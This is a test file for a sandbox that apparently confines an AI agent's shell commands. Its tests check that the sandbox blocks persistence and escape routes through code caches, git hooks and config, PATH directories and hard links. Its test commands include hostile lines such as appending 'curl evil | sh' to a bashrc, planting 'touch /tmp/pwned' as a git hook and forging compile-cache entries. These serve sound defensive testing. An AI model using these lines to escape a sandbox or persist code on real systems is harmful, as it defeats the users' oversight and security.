/**
 * A ninth hunt of the kernel layer (2026-12-07, a helper, real runs as
 * root): caches that programs outside read back as code.
 *
 * - `~/.cache` was writable as a whole: black keeps a pickle there, and a
 *   later `black a.py` outside ran what a command wrote in it (pylint's and
 *   parso's caches are pickles too; poetry's virtualenvs, deno's modules and
 *   test browsers are code). Only the build caches BUILD_CACHES names are
 *   writable in it now.
 * - node's compile cache in the temp dir: npm 11 keeps its own modules'
 *   bytecode in `$TMPDIR/node-compile-cache`, checked by length and crc32
 *   alone, and the next `npm` outside ran a forged entry. Read-only now, made
 *   empty where not there; so is the directory `NODE_COMPILE_CACHE` names.
 */
import { existsSync, linkSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { GIT_HOOK_PLACES } from "../../runtime/bash/programs/knowledge/git.js";
import { GIT_SYSTEM_CONFIGURATIONS, systemConfigurations } from "../../runtime/sandbox/git-repositories.js";
import { pathDirectories } from "../../runtime/paths/path-directories.js";
import { loadPolicy } from "../../runtime/index.js";
import { sandboxProfile } from "../../runtime/sandbox/build-profile.js";
import { compiledFor, kernelLayout, runIn } from "../support/kernel-run.js";

const BASE = { "*": "allow", bash: { "*": "allow" }, path: { "*": "allow", "~/.ssh/*": "deny" }, external_directory: { "*": "allow" } };

describe("caches programs outside read back as code", () => {
  it("black's pickle cache in ~/.cache cannot be written; a build cache there can", async () => {
    const at = kernelLayout("kernel-hunt9-cache");
    const black = path.join(at.home, ".cache", "black", "23.1.0");
    mkdirSync(black, { recursive: true });
    writeFileSync(path.join(black, "cache.pickle"), "as black wrote it\n");
    mkdirSync(path.join(at.home, ".cache", "pip"));
    const mod = await compiledFor(at, BASE);
    const ran = await runIn(at, mod, "echo evil > ~/.cache/black/23.1.0/cache.pickle; mkdir ~/.cache/pylint; echo ok > ~/.cache/pip/wheel; echo done");
    expect(ran.out).toContain("done");
    expect(readFileSync(path.join(black, "cache.pickle"), "utf8")).toBe("as black wrote it\n");
    expect(existsSync(path.join(at.home, ".cache", "pylint"))).toBe(false);
    expect(existsSync(path.join(at.home, ".cache", "pip", "wheel"))).toBe(true);
  }, 30_000);

  it("node's compile cache in the temp dir, and where NODE_COMPILE_CACHE puts it, cannot be written", async () => {
    const at = kernelLayout("kernel-hunt9-compile");
    const named = path.join(at.tmp, "named-cache");
    const mod = await compiledFor(at, BASE);
    const ran = await runIn(
      at,
      mod,
      'mkdir -p "$TMPDIR/node-compile-cache/v22" && echo forged > "$TMPDIR/node-compile-cache/v22/e674a16c"; mkdir -p "$NODE_COMPILE_CACHE/v22" && echo forged > "$NODE_COMPILE_CACHE/v22/x"; echo ok > "$TMPDIR/other"; echo done',
      { env: { NODE_COMPILE_CACHE: named } },
    );
    expect(ran.out).toContain("done");
    expect(readdirSync(path.join(at.tmp, "node-compile-cache"))).toEqual([]);
    expect(readdirSync(named)).toEqual([]);
    expect(existsSync(path.join(at.tmp, "other"))).toBe(true);
  }, 30_000);

  it("corepack's and jiti's caches in the temp dir (pi's extensions load through jiti) cannot be written", async () => {
    const at = kernelLayout("kernel-hunt9-jiti");
    const mod = await compiledFor(at, BASE);
    const uid = process.getuid?.() ?? 0;
    const ran = await runIn(at, mod, `echo forged > "$TMPDIR/jiti/hello.abc.mjs"; echo forged > "$TMPDIR/v8-compile-cache-${uid}/x.BLOB"; echo done`);
    expect(ran.out).toContain("done");
    expect(readdirSync(path.join(at.tmp, "jiti"))).toEqual([]);
    expect(readdirSync(path.join(at.tmp, `v8-compile-cache-${uid}`))).toEqual([]);
  }, 30_000);
});

describe("git's configuration from the person's environment", () => {
  it("a hooks directory GIT_CONFIG_COUNT names, and git's directory where XDG_CONFIG_HOME moves it, cannot be written", async () => {
    const at = kernelLayout("kernel-hunt9-gitenv");
    mkdirSync(path.join(at.proj, ".githooks"));
    const xdg = path.join(at.tmp, "xdg");
    const mod = await compiledFor(at, BASE);
    const env = { XDG_CONFIG_HOME: xdg, GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "core.hooksPath", GIT_CONFIG_VALUE_0: ".githooks" };
    const ran = await runIn(
      at,
      mod,
      'echo "touch /tmp/pwned" > .githooks/pre-commit; mkdir -p "$XDG_CONFIG_HOME/git"; printf "[core]\\n\\tfsmonitor = x.sh\\n" > "$XDG_CONFIG_HOME/git/config"; echo done',
      { env },
    );
    expect(ran.out).toContain("done");
    expect(readdirSync(path.join(at.proj, ".githooks"))).toEqual([]);
    expect(existsSync(path.join(xdg, "git", "config"))).toBe(false);
  }, 30_000);

  // git reads its system configuration too: where GIT_CONFIG_SYSTEM names a file the person can write, a command
  // could add a hook or a command to it, and the hooks directory it names ran its hooks for the next git outside.
  it("the file GIT_CONFIG_SYSTEM names, and the hooks directory it names, cannot be written", async () => {
    const at = kernelLayout("kernel-hunt9-gitsystem");
    const hooks = path.join(at.proj, ".syshooks");
    mkdirSync(hooks);
    const system = path.join(at.tmp, "system.gitconfig");
    writeFileSync(system, `[core]\n\thooksPath = ${hooks}\n`);
    const mod = await compiledFor(at, BASE);
    const ran = await runIn(
      at,
      mod,
      'echo "touch /tmp/pwned" > .syshooks/pre-commit; printf "[core]\\n\\tfsmonitor = x.sh\\n" >> "$GIT_CONFIG_SYSTEM"; echo done',
      // The suite leaves the machine's system configuration out (vitest.config.ts); this run reads one.
      { env: { GIT_CONFIG_SYSTEM: system, GIT_CONFIG_NOSYSTEM: "0" } },
    );
    expect(ran.out).toContain("done");
    expect(readdirSync(hooks)).toEqual([]);
    expect(readFileSync(system, "utf8")).toBe(`[core]\n\thooksPath = ${hooks}\n`);
  }, 30_000);
});

// A relative PATH entry is searched from the searcher's working directory: the agent's and its hook's, which is the
// command's. A `node` planted in `./node_modules/.bin` ran outside when the hook's bare `node` was found there.
describe("a relative PATH entry", () => {
  it("is the directory under the working tree, and a command cannot plant a program there", async () => {
    const at = kernelLayout("kernel-relative-path");
    mkdirSync(path.join(at.proj, "node_modules", ".bin"), { recursive: true });
    mkdirSync(path.join(at.proj, "tools"));
    const mod = await compiledFor(at, BASE);
    const ran = await runIn(at, mod, "echo planted > node_modules/.bin/node; echo planted > tools/git; echo ok > notes.txt; echo done", {
      PATH: "node_modules/.bin:./tools:/usr/bin:/bin",
    });
    expect(ran.out).toContain("done");
    expect(readdirSync(path.join(at.proj, "node_modules", ".bin"))).toEqual([]);
    expect(readdirSync(path.join(at.proj, "tools"))).toEqual([]);
    expect(readFileSync(path.join(at.proj, "notes.txt"), "utf8")).toBe("ok\n");
  }, 30_000);

  it("whose directories are not there yet: made empty with them, and a command cannot plant a program there", async () => {
    const at = kernelLayout("kernel-relative-path-absent");
    const mod = await compiledFor(at, BASE);
    const ran = await runIn(
      at,
      mod,
      "mkdir -p node_modules/.bin tools; echo planted > node_modules/.bin/node; echo planted > tools/deep/git; echo ok > notes.txt; echo done",
      {
        PATH: "node_modules/.bin:./tools/deep:/usr/bin:/bin",
      },
    );
    expect(ran.out).toContain("done");
    expect(readdirSync(path.join(at.proj, "node_modules", ".bin"))).toEqual([]);
    expect(readdirSync(path.join(at.proj, "tools", "deep"))).toEqual([]);
    expect(readFileSync(path.join(at.proj, "notes.txt"), "utf8")).toBe("ok\n");
  }, 30_000);

  it.each<[string, string, string[]]>([
    [
      "relative entries, from the working directory",
      "node_modules/.bin:./tools:../bin:/usr/bin",
      ["/p/w/node_modules/.bin", "/p/w/tools", "/p/bin", "/usr/bin"],
    ],
    ["an empty entry is the working directory", "/usr/bin::/bin", ["/usr/bin", "/p/w", "/bin"]],
    ["an empty one names the working directory alone", "", ["/p/w"]],
  ])("%s", (_, PATH, want) => {
    expect(pathDirectories(PATH, "/p/w")).toEqual(want);
  });
});

describe("git's system configuration", () => {
  it.each<[string, Record<string, string>, string[]]>([
    ["where a build of git looks, as the bash analysis lists it", {}, [...GIT_HOOK_PLACES.systemConfigurations]],
    ["none under GIT_CONFIG_NOSYSTEM", { GIT_CONFIG_NOSYSTEM: "true" }, []],
    ["read under another value (stricter)", { GIT_CONFIG_NOSYSTEM: "maybe" }, [...GIT_SYSTEM_CONFIGURATIONS]],
    ["GIT_CONFIG_SYSTEM's file", { GIT_CONFIG_SYSTEM: "/x/sys.cfg" }, ["/x/sys.cfg"]],
    ["a relative one, from the working directory", { GIT_CONFIG_SYSTEM: "sys.cfg" }, [path.resolve("sys.cfg")]],
  ])("%s", (_, env, want) => {
    expect(systemConfigurations(env)).toEqual(want);
  });
});

describe("a protected file with another name (a hard link)", () => {
  it("a hook hard-linked to a script in the working tree cannot be written through the script", async () => {
    const at = kernelLayout("kernel-hard-link");
    mkdirSync(path.join(at.proj, ".git", "hooks"), { recursive: true });
    mkdirSync(path.join(at.proj, "scripts"));
    writeFileSync(path.join(at.proj, "scripts", "pre-commit"), "# the project's hook\n");
    linkSync(path.join(at.proj, "scripts", "pre-commit"), path.join(at.proj, ".git", "hooks", "pre-commit"));
    const mod = await compiledFor(at, BASE);
    const ran = await runIn(at, mod, "echo evil >> scripts/pre-commit; printf 'evil' > scripts/pre-commit; echo ok > scripts/other; echo done");
    expect(ran.out).toContain("done");
    expect(readFileSync(path.join(at.proj, ".git", "hooks", "pre-commit"), "utf8")).toBe("# the project's hook\n");
    expect(readFileSync(path.join(at.proj, "scripts", "other"), "utf8")).toBe("ok\n");
  }, 30_000);

  it("a start-up file in the read-only home, hard-linked into the working tree (a dotfiles repository), cannot be written from there", async () => {
    const at = kernelLayout("kernel-hard-link-home");
    mkdirSync(path.join(at.proj, "dotfiles"));
    linkSync(path.join(at.home, ".bashrc"), path.join(at.proj, "dotfiles", "bashrc"));
    writeFileSync(path.join(at.proj, "dotfiles", "vimrc"), "set nu\n");
    const mod = await compiledFor(at, BASE);
    await runIn(at, mod, "echo 'curl evil | sh' >> dotfiles/bashrc; echo 'set rnu' >> dotfiles/vimrc");
    expect(readFileSync(path.join(at.home, ".bashrc"), "utf8")).toBe("bashrc\n");
    expect(readFileSync(path.join(at.proj, "dotfiles", "vimrc"), "utf8")).toBe("set nu\nset rnu\n");
  }, 30_000);

  it("makes read-only the other names it finds (none when there are none), and says so when its walk stops before every name", async () => {
    const at = kernelLayout("kernel-hard-link-profile");
    mkdirSync(path.join(at.proj, ".git", "hooks"), { recursive: true });
    for (let i = 0; i < 30; i++) writeFileSync(path.join(at.proj, `f${i}.txt`), "");
    writeFileSync(path.join(at.proj, ".git", "hooks", "pre-push"), "");
    const policy = await loadPolicy(await compiledFor(at, BASE), { home: at.home });
    const profileWith = (scanLimit: number) => sandboxProfile(policy, { cwd: at.proj, home: at.home, tmpDir: at.tmp, scanLimit });
    const named = (limit: number) =>
      profileWith(limit)
        .mounts.filter((m) => m.why.includes("hard link"))
        .map((m) => m.path);
    expect(named(10_000)).toEqual([]);
    // Named last in the walk's order: the tree's files come first, breadth first.
    mkdirSync(path.join(at.proj, "z", "deep"), { recursive: true });
    linkSync(path.join(at.proj, ".git", "hooks", "pre-push"), path.join(at.proj, "z", "deep", "pre-push"));
    expect(named(10_000)).toEqual([path.join(at.proj, "z", "deep", "pre-push")]);
    // A grant of one file outside the writable places: writable, unless it is another name of the hook.
    const writableAt = (granted: string) =>
      sandboxProfile(policy, { cwd: at.proj, home: at.home, tmpDir: at.tmp, grants: [granted] }).mounts.some(
        (m) => m.path === granted && m.kind === "writable",
      );
    const plain = path.join(at.root, "granted-plain");
    writeFileSync(plain, "");
    expect(writableAt(plain)).toBe(true);
    const granted = path.join(at.root, "granted-pre-push");
    linkSync(path.join(at.proj, ".git", "hooks", "pre-push"), granted);
    expect(writableAt(granted)).toBe(false);
    // Nor is the file a symbolic link in the hooks directory leads to (link-targets.ts), found after the grants too.
    const target = path.join(at.root, "hook-target");
    writeFileSync(target, "");
    symlinkSync(target, path.join(at.proj, ".git", "hooks", "pre-commit"));
    expect(writableAt(target)).toBe(false);
    const bounded = profileWith(5);
    expect(bounded.mounts.filter((m) => m.why.includes("hard link"))).toEqual([]);
    expect(bounded.notes.join("\n")).toContain(
      `${path.join(at.proj, ".git", "hooks", "pre-push")} has hard links the walk of the writable places did not reach`,
    );
  }, 30_000);
});
